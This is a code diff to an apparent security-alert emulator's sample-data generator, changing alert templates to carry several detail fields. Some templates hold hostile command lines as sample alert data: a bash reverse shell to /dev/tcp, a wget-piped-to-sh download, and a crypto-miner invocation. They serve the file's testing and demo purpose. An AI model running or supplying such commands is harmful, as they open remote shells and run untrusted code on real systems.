@@ -6,7 +6,7 @@ interface AlertTemplate {
   readonly name: string;
   readonly display: string;
   readonly level: SuspEventLevel;
-  readonly detail: readonly [label: string, value: string];
+  readonly details: readonly (readonly [label: string, value: string])[];
 }
 
 const TEMPLATES: readonly [AlertTemplate, ...AlertTemplate[]] = [
@@ -15,63 +15,82 @@ const TEMPLATES: readonly [AlertTemplate, ...AlertTemplate[]] = [
     name: 'login_common_location',
     display: 'Login with unusual location',
     level: 'remind',
-    detail: ['Login source IP', '198.51.100.23'],
+    details: [
+      ['Login source IP', '198.51.100.23'],
+      ['Login user', 'root'],
+    ],
   },
   {
     type: 'Unusual Logon',
     name: 'login_brute_force_success',
     display: 'Successful login after brute-force attack',
     level: 'serious',
-    detail: ['Login source IP', '198.51.100.77'],
+    details: [
+      ['Login source IP', '198.51.100.77'],
+      ['Login user', 'admin'],
+    ],
   },
   {
     type: 'Webshell',
     name: 'webshell_php',
     display: 'PHP webshell file',
     level: 'serious',
-    detail: ['File path', '/var/www/html/upload/shell.php'],
+    details: [
+      ['File path', '/var/www/html/upload/shell.php'],
+      ['File MD5', '3f1d5e0b7c2a9d84e6b0c1f27a953e4d'],
+    ],
   },
   {
     type: 'Malicious process',
     name: 'malicious_process_miner',
     display: 'Mining program',
     level: 'serious',
-    detail: ['Process path', '/tmp/.x/kworkerds'],
+    details: [
+      ['Process path', '/tmp/.x/kworkerds'],
+      ['Command line', '/tmp/.x/kworkerds -o pool.example.net:3333 --background'],
+      ['File MD5', 'a7c3e91f04b2d6587e0f1c9b3d2a6e85'],
+    ],
   },
   {
     type: 'Suspicious process',
     name: 'reverse_shell',
     display: 'Reverse shell command',
     level: 'serious',
-    detail: ['Command line', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'],
+    details: [
+      ['Command line', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'],
+      ['Process path', '/usr/bin/bash'],
+    ],
   },
   {
     type: 'Suspicious process',
     name: 'suspicious_download',
     display: 'Suspicious download command',
     level: 'suspicious',
-    detail: ['Command line', 'wget http://198.51.100.41/x.sh -O- | sh'],
+    details: [
+      ['Command line', 'wget http://198.51.100.41/x.sh -O- | sh'],
+      ['Process path', '/usr/bin/wget'],
+    ],
   },
   {
     type: 'Suspicious network connection',
     name: 'outbound_port_scan',
     display: 'Outbound port scan',
     level: 'suspicious',
-    detail: ['Target', '192.0.2.0/24'],
+    details: [['Target', '192.0.2.0/24']],
   },
   {
     type: 'Suspicious account',
     name: 'new_privileged_account',
     display: 'New account with root privileges',
     level: 'suspicious',
-    detail: ['Account', 'sysadm'],
+    details: [['Account', 'sysadm']],
   },
   {
     type: 'Sensitive file tampering',
     name: 'crontab_modified',
     display: 'Scheduled task modified',
     level: 'remind',
-    detail: ['File path', '/etc/crontab'],
+    details: [['File path', '/etc/crontab']],
   },
 ];
 
@@ -82,6 +101,8 @@ const FIRST_ID = 7_009_600;
  * Realistic alert events for demos and tests, the same for the same `count` and `seed`: mixed
  * levels (serious, suspicious, remind) and types (Unusual Logon, Webshell, Malicious process, ...),
  * addresses in documentation ranges (`203.0.113.x` public, `10.x.x.x` private), all pending, newest first.
+ * Each event has its own host (`Uuid`) and `Details` (login source IP and user, file path and MD5,
+ * process path and command line, ...) from which the emulator offers whitelist fields.
  *
  * @example
  * ```ts
@@ -125,14 +146,12 @@ export function sampleAlerts(count: number, seed: string | number = 'alerts'): S
       Advanced: false,
       SaleVersion: '1',
       Desc: template.display,
-      Details: [
-        {
-          NameDisplay: template.detail[0],
-          Type: 'text',
-          Value: template.detail[1],
-          ValueDisplay: template.detail[1],
-        },
-      ],
+      Details: template.details.map(([label, value]) => ({
+        NameDisplay: label,
+        Type: 'text',
+        Value: value,
+        ValueDisplay: value,
+      })),
       EventNotes: [],
       MarkList: [],
     };
